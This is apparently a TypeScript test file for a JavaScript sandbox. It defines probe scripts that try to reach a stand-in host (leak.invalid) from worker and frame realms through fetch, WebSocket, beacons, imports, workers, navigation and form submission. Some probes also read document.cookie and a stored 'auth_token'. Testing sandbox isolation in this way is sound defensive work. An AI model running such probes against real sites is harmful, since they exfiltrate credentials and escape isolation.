import { of, onceThere, type HostileCase } from "./HostileCase.ts";

const probes = `
    const at = "https://leak.invalid/";
    const tries = {
      fetch: () => fetch(at), XMLHttpRequest: () => { const x = new XMLHttpRequest(); x.open("GET", at); x.send(); },
      WebSocket: () => new WebSocket("wss://leak.invalid/"), EventSource: () => new EventSource(at),
      WebTransport: () => new WebTransport(at), sendBeacon: () => navigator.sendBeacon(at, "x"),
      import: () => import(at), importScripts: () => importScripts(at), Worker: () => new Worker(at),
      SharedWorker: () => new SharedWorker(at), serviceWorker: () => navigator.serviceWorker.register(at),
      FontFace: () => new FontFace("x", "url(" + at + ")").load(), RTCPeerConnection: () => new RTCPeerConnection({}),
      eval: () => eval("1"), Function: () => new Function("return 1")(), caches: () => caches.open("x"),
      indexedDB: () => indexedDB.open("x"), localStorage: () => localStorage.getItem("auth_token"), cookie: () => document.cookie,
    };
    const answers = {};
    const tell = (name, answer) => { answers[name] = answer; say(JSON.stringify(answers, undefined, 1)); };
    for (const [name, run] of Object.entries(tries))
      try { Promise.resolve(run()).then((got) => tell(name, String(got)), (failure) => tell(name, failure.name)); } catch (failure) { tell(name, failure.name); }`;

const leaving = `
    const link = document.createElement("a");
    Object.assign(link, { href: "https://leak.invalid/top", target: "_top" });
    const form = document.createElement("form");
    Object.assign(form, { action: "https://leak.invalid/form", target: "_blank" });
    document.body.append(link, form);
    document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=https://leak.invalid/meta">');
    const answers = {};
    const tries = {
      open: () => String(open("https://leak.invalid/open")), RTCPeerConnection: () => typeof RTCPeerConnection,
      top: () => { top.location = "https://leak.invalid/t"; }, link: () => link.click(), form: () => form.submit(),
    };
    for (const [name, run] of Object.entries(tries)) try { answers[name] = String(run()); } catch ({ name: failure }) { answers[name] = failure; }
    say(JSON.stringify(answers, undefined, 1));`;

const frame = { realm: "frame", isProject: true } as const;
const outside = of("outside");
const frames = of("frames");

/** Ways out of a worker realm, and what a document of its own adds to them. */
export const outsideCases: readonly HostileCase[] = [
  outside("network", "fetch, WebSocket, import, eval, …", onceThere(probes)),
  frames("frameNetwork", "frame: fetch, WebSocket, import, eval, …", onceThere(probes), frame),
  frames("frameLeaving", "frame: top, open, form, meta, RTC", onceThere(leaving), frame),
  frames("frameMove", "frame: location = …", onceThere('say("leaving"); setTimeout(() => { location.href = "https://leak.invalid/move"; }, 300);'), frame),
];
